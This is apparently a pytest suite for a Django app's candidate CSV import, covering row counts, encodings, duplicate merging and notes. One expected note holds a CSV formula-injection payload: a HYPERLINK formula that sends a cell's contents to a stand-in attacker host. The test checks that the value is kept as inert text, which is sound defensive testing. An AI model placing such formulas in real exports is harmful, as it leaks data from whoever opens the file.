"""The two real files end as the product promises: every row accounted for, nothing lost."""

import csv

import pytest

from candidates.models import Candidate, EmailAddress, Import, Note
from tests.candidates.imports.conftest import FILES

pytestmark = pytest.mark.django_db

MESSY, LINKEDIN = "messy-candidates.csv", "linkedin-connections.csv"


def rows_of(name: str, *, encoding: str, delimiter: str, above: int) -> int:
    """The data rows as Python's own reader counts them: blank lines, notes and titles apart."""
    with (FILES / name).open(encoding=encoding, newline="") as file:
        records = [record for record in csv.reader(file, delimiter=delimiter) if record]
    return len(records) - above


def person(name: str) -> Candidate:
    return Candidate.objects.get(full_name=name)


def test_messy_file_ends_with_every_row_accounted_for(upload, check, run):
    checked = check(upload(MESSY))

    planned = dict(checked.rows.values_list("line", "outcome"))
    assert checked.counts == {"create": 242, "duplicate": 3, "invalid": 1}
    assert Candidate.objects.count() == 0

    done = run(checked)

    assert done.state == Import.State.DONE
    assert done.counts == {"create": 242, "duplicate": 3, "invalid": 1}
    assert sum(done.counts.values()) == done.row_count == done.done_count
    assert done.row_count == rows_of(MESSY, encoding="cp1252", delimiter=";", above=1) == 246
    assert dict(done.rows.values_list("line", "outcome")) == planned
    assert Candidate.objects.count() == 242
    assert not done.rows.filter(state="pending").exists()
    assert list(done.rows.filter(state="failed").values_list("line", "reason")) == [
        (44, "Empty row")
    ]


def test_messy_file_is_said_to_be_what_it_is(upload, check):
    checked = check(upload(MESSY))

    assert (checked.encoding, checked.delimiter) == ("cp1252", ";")
    assert checked.notices == [
        "More cells than columns on line 73: the extra ones are kept as a note.",
        "1 row has fewer cells than columns: the missing ones count as empty.",
        "Letters were lost before this file was made: 33 cells have a “?” inside a word, "
        "the first on line 10. They are kept as they are.",
    ]
    assert checked.hints["sentences"] == [
        "Dates in “Letzter Kontakt” are read month first (03/04 is March 4): 22 dates can only be read so."
    ]


def test_messy_file_one_person_in_four_rows_is_one_record(upload, check, run):
    done = run(check(upload(MESSY)))

    morris = person("Morris Dijkman")
    duplicates = done.rows.filter(state="duplicate").order_by("line")
    assert [(row.line, row.candidate_id, row.details["of_line"]) for row in duplicates] == [
        (57, morris.pk, 56),
        (58, morris.pk, 56),
        (59, morris.pk, 56),
    ]
    assert list(morris.emails.order_by("-is_primary").values_list("normalized", "is_primary")) == [
        ("morris.dijkman@example.com", True),
        ("other.morris.dijkman@example.com", False),
    ]
    assert list(morris.phones.values_list("normalized", flat=True)) == ["+4915176585530"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Sarah Correia", {"country": "FR", "salary_expectation": "65.000 €"}),
        ("Rosaria Peranda", {"city": "Sella Di Corno", "country": "DE"}),
        ("Cathleen Mülichen", {"country": "PL"}),
        ("Phileine van der Veen", {"city": "Vlist", "country": ""}),
        ("Liz da Rocha", {"country": "GB"}),
        ("?nsaf Durdu", {"city": "Türkstad"}),
        ("Ezio Giannotti", {"salary_expectation": ""}),
    ],
)
def test_messy_file_names_and_places_are_put_right(upload, check, run, name, expected):
    run(check(upload(MESSY)))

    found = person(name)
    assert {field: getattr(found, field) for field in expected} == expected


def test_messy_file_keeps_what_fits_nowhere(upload, check, run):
    done = run(check(upload(MESSY)))

    def notes(name: str) -> list[str]:
        return list(person(name).notes.order_by("pk").values_list("body", flat=True))

    assert notes("Carmela Fliegner") == [
        "sehr gut!",
        'From the import:\nName: =HYPERLINK("http://evil.example/?x="&A1,"click")',
    ]
    assert notes("Éléonore Laine") == ["=1+1"]
    assert notes("Renan Pinto") == ['er sagte: "später; vielleicht"\nzweite Zeile']
    assert notes("Traudl Tintzmann") == [
        "nicht vor Q2 kontaktieren",
        "From the import:\nExtra cell 14: extra\nExtra cell 15: columns",
    ]
    assert notes("Ecegül Bilir") == ["From the import:\nE-Mail: ecegul.bilir at example.com"]
    assert len(notes("Cyprian Armatys")[0]) == 12_000
    warned = done.rows.get(line=31)
    assert warned.state == "created"
    assert warned.details["warnings"] == [
        "“ecegul.bilir at example.com” is no e-mail address: kept in the note"
    ]


def test_messy_file_two_addresses_in_a_cell_are_two(upload, check, run):
    run(check(upload(MESSY)))

    addresses = EmailAddress.objects.filter(candidate=person("Giacobbe Gaito"))
    assert list(addresses.order_by("-is_primary").values_list("address", "is_primary")) == [
        ("giacobbe.gaito@example.com", True),
        ("giacobbe.gaito@example.org", False),
    ]


def test_messy_file_again_changes_nothing(upload, check, run):
    run(check(upload(MESSY)))
    before = (Candidate.objects.count(), Note.objects.count(), EmailAddress.objects.count())

    again = run(check(upload(MESSY)))

    assert (Candidate.objects.count(), Note.objects.count(), EmailAddress.objects.count()) == before
    assert again.counts == {"duplicate": 245, "invalid": 1}


def test_linkedin_file_ends_with_every_row_accounted_for(upload, check, run):
    checked = check(upload(LINKEDIN))

    assert checked.skipped_lines == 3
    assert checked.notices == [
        "3 lines above the column titles left out: “Notes:”, "
        "“When exporting your connection data, you may notice that som…”."
    ]

    done = run(checked)

    assert done.counts == {"create": 185, "duplicate": 1, "invalid": 1}
    assert sum(done.counts.values()) == done.row_count
    assert done.row_count == rows_of(LINKEDIN, encoding="utf-8", delimiter=",", above=3) == 187
    assert Candidate.objects.count() == 185
    assert list(done.rows.filter(state="failed").values_list("line", "reason")) == [
        (65, "No name and no e-mail address: nobody to import")
    ]


def test_linkedin_file_keeps_dates_ornaments_and_line_breaks(upload, check, run):
    run(check(upload(LINKEDIN)))

    assert list(person("Franco Faranda").notes.values_list("body", flat=True)) == [
        "From the import:\nFirst Name: ✨ Franco ✨\nLast Name: Faranda\nConnected On: 13 Oct 2024"
    ]
    assert person("Dennis Hunt").headline == "Engineer, Platform"
    assert person("Ermutlu Demirel").links.get().normalized == (
        "linkedin.com/in/ermutlu-demirel-2a1376"
    )
